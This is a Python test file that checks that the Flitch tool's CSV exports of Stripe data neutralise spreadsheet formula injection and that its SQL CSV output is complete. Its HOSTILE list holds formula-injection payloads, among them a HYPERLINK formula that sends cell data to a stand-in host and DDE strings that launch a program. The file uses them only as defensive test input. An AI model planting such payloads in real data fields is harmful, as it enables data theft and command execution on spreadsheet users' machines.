"""CSV exports carry no spreadsheet formulas from Stripe data, and ``flitch sql --csv`` is whole.

Stripe data is written by end users (a customer's name, a charge's description), and a
spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return before one) as a formula. Every CSV Flitch writes — the web app's download,
``flitch export`` and ``flitch sql --csv``, live or from the cache — prefixes such a text cell
with ``'`` (OWASP's rule), leaves numbers as they are (``-500`` stays a number) and Parquet
keeps every value exactly.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import duckdb
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from flitch.cli import app as cli
from flitch.config import Settings
from flitch.connections.service import ConnectionService
from flitch.emulator.server import Emulator
from flitch.refresh.runner import refresh
from flitch.store import exports
from flitch.web import create_app
from tests.conftest import TEST_KEY, fresh_account
from tests.web.conftest import cheap_hasher

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NEGATIVE_BALANCE = -500
#: The datasets exported, and the column of each that holds the hostile text.
DATASETS = {"customers": "name", "charges": "description"}


def hostile_cells(text: str) -> list[str]:
    """The cells of a CSV a spreadsheet would run as a formula (numbers are not formulas)."""
    found = []
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


@pytest.fixture(scope="module")
def hostile_emulator() -> Iterator[Emulator]:
    """An account whose customers are named (and described) by an attacker, one of them with
    a negative balance, and whose charges carry hostile descriptions."""
    from tests.conftest import generous_config

    account = fresh_account(customers=12)
    customers = account.test.ordered("customer").objects
    listed = next(c["id"] for c in customers if not c.get("test_clock"))
    for i, customer in enumerate(list(customers)):
        changed = dict(customer)
        changed["name"] = HOSTILE[i % len(HOSTILE)]
        changed["description"] = HOSTILE[(i + 1) % len(HOSTILE)]
        if customer["id"] == listed:
            changed["balance"] = NEGATIVE_BALANCE
        account.test.put(changed)
    for i, charge in enumerate(list(account.test.ordered("charge").objects)):
        account.test.put({**charge, "description": HOSTILE[i % len(HOSTILE)]})
    with Emulator(account, generous_config()) as emu:
        yield emu


@pytest.fixture
def home(tmp_path: Path, hostile_emulator: Emulator) -> Path:
    home = tmp_path / "home"
    with ConnectionService(settings(home, hostile_emulator)) as service:
        service.create("shop", TEST_KEY, objects="customers,charges")
    return home


def settings(home: Path, emu: Emulator) -> Settings:
    return Settings(
        home=home,
        stripe_api_base=emu.url,
        max_retries=1,
        test_requests_per_second=10_000.0,
        live_requests_per_second=10_000.0,
        endpoint_requests_per_second=10_000.0,
    )


def cache_it(home: Path, emu: Emulator) -> None:
    """Refresh on, and a full refresh: the exports then read the cache file."""
    with ConnectionService(settings(home, emu)) as service:
        assert refresh(service, "shop", full=True).outcome.value == "ok"
        service.set_refresh("shop", "1h")


def flitch(home: Path, emu: Emulator, *args: str, stdin: str | None = None) -> Any:
    env = {
        "FLITCH_HOME": str(home),
        "FLITCH_STRIPE_API_BASE": emu.url,
        "FLITCH_SECRET_KEY": None,
        "FLITCH_TEST_RPS": "10000",
        "FLITCH_ENDPOINT_RPS": "10000",
        "COLUMNS": "200",
    }
    result = CliRunner().invoke(cli, list(args), env=env, input=stdin)
    if result.exception and not isinstance(result.exception, SystemExit):
        raise result.exception
    assert result.exit_code == 0, result.output
    return result


def cli_export(home: Path, emu: Emulator, dataset: str) -> str:
    out = home.parent / f"{dataset}.csv"
    flitch(home, emu, "export", "shop", dataset, "-o", str(out))
    with out.open(encoding="utf-8", newline="") as file:
        return file.read()


def cli_sql(home: Path, emu: Emulator, dataset: str) -> str:
    return str(flitch(home, emu, "sql", "shop", f"SELECT * FROM {dataset}", "--csv").stdout)


_TOKENS: dict[Path, str] = {}


def token(home: Path, emu: Emulator) -> str:
    """An API token of an admin of ``home`` (made from the terminal, once)."""
    if home not in _TOKENS:
        flitch(home, emu, "users", "add", "ada", "--role", "admin", stdin="a long password 1\n")
        _TOKENS[home] = str(flitch(home, emu, "tokens", "create", "ada").stdout).split()[0]
    return _TOKENS[home]


def web_export(home: Path, emu: Emulator, dataset: str) -> str:
    secret = token(home, emu)
    app = create_app(settings(home, emu), password_hasher=cheap_hasher())
    try:
        with ConnectionService(settings(home, emu)) as service:
            conn_id = service.get("shop").id
        client = TestClient(app, base_url="http://127.0.0.1:8765")
        response = client.get(
            f"/api/v1/connections/{conn_id}/datasets/{dataset}/export?format=csv",
            headers={"Authorization": f"Bearer {secret}"},
        )
        assert response.status_code == 200, response.text
        return response.text
    finally:
        app.state.flitch.connections.close()


PATHS: dict[str, Callable[[Path, Emulator, str], str]] = {
    "flitch export": cli_export,
    "flitch sql --csv": cli_sql,
    "web export": web_export,
}


@pytest.mark.parametrize("cached", [False, True], ids=["live", "cached"])
@pytest.mark.parametrize("path", list(PATHS))
def test_no_csv_cell_is_a_formula(
    home: Path, hostile_emulator: Emulator, path: str, cached: bool
) -> None:
    if cached:
        cache_it(home, hostile_emulator)
    texts = {dataset: PATHS[path](home, hostile_emulator, dataset) for dataset in DATASETS}
    counts = {dataset: len(hostile_cells(text)) for dataset, text in texts.items()}
    assert counts == {"customers": 0, "charges": 0}
    for dataset, column in DATASETS.items():
        rows = list(csv.DictReader(io.StringIO(texts[dataset], newline="")))
        assert rows
        assert {row[column] for row in rows} <= {"'" + h for h in HOSTILE}, (
            "each hostile cell is kept, behind a quote"
        )
    balances = [row["balance"] for row in csv.DictReader(io.StringIO(texts["customers"]))]
    assert str(NEGATIVE_BALANCE) in balances  # a number stays a number


def test_parquet_keeps_the_exact_values(home: Path, hostile_emulator: Emulator) -> None:
    out = home.parent / "customers.parquet"
    flitch(home, hostile_emulator, "export", "shop", "customers", "-o", str(out))
    con = duckdb.connect()
    names = {r[0] for r in con.execute(f"SELECT name FROM read_parquet('{out}')").fetchall()}
    balances = {r[0] for r in con.execute(f"SELECT balance FROM read_parquet('{out}')").fetchall()}
    assert names == set(HOSTILE)
    assert NEGATIVE_BALANCE in balances


# -- flitch sql --csv is whole ------------------------------------------------------------------
def test_sql_csv_streams_every_row(home: Path, hostile_emulator: Emulator) -> None:
    result = flitch(
        home, hostile_emulator, "sql", "shop", "SELECT range AS n FROM range(12345)", "--csv"
    )
    lines = result.stdout.splitlines()
    assert lines[0] == "n"
    assert len(lines) - 1 == 12345
    assert lines[-1] == "12344"
    assert "12,345 rows" in result.stderr


def test_an_explicit_limit_is_applied_and_reported(home: Path, hostile_emulator: Emulator) -> None:
    result = flitch(
        home,
        hostile_emulator,
        "sql",
        "shop",
        "SELECT range AS n FROM range(12345)",
        "--csv",
        "--max-rows",
        "100",
    )
    assert len(result.stdout.splitlines()) - 1 == 100
    assert "--max-rows 100" in result.stderr
    # the table still says so, as it always did
    table = flitch(home, hostile_emulator, "sql", "shop", "SELECT range FROM range(12345)")
    assert "10000 rows (truncated)" in table.stderr


def test_csv_keeps_the_order_of_the_statement(tmp_path: Path) -> None:
    """Neutralising text must not reorder rows (DuckDB turns a long IN list into a join)."""
    con = duckdb.connect()
    con.execute(
        "CREATE TABLE t AS SELECT range AS n, '=x' || range AS s FROM range(300000) "
        "ORDER BY hash(range)"
    )
    dest = tmp_path / "ordered.csv"
    written = exports.write(lambda _: con.cursor(), "SELECT * FROM t ORDER BY n DESC", "csv", dest)
    with dest.open(newline="") as file:
        rows = list(csv.reader(file))[1:]
    assert written.rows == len(rows) == 300000
    assert [int(r[0]) for r in rows] == list(range(299999, -1, -1))
    assert rows[0][1] == "'=x299999"
